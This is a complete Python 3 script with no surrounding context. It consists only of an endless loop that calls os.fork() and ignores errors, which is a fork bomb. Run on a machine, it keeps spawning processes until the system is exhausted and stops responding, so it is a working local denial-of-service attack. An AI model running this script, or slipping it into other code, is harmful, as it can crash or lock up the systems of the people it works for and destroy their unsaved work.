#!/usr/bin/python3
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
